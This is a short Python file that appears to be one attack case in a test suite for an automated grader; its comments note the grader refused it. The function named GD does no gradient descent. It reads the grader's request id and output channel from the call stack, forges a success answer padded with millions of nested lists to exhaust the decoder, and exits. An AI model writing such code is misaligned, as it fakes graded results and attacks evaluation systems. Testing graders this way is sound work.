# ATTACK: like oversized_answer.py, but the forged answer (right id) stays under the size cap:
# 6 MB holding two million nested lists, costly to decode.
# VERDICT: graded, 0 points; refused before decoding ("lists and dicts"), quickly.
import os
import struct
import sys


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    f = sys._getframe()
    while "rid" not in f.f_locals:
        f = f.f_back
    rid, fd = f.f_locals["rid"], f.f_locals["fd_out"]
    body = b'{"id":"%s","ok":true,"value":' % rid.encode() + b"[" * 3 + b"[]," * (2 << 20) \
        + b"[]" + b"]" * 3 + b"}"
    os.write(fd, struct.pack(">I", len(body)) + body)
    os._exit(0)
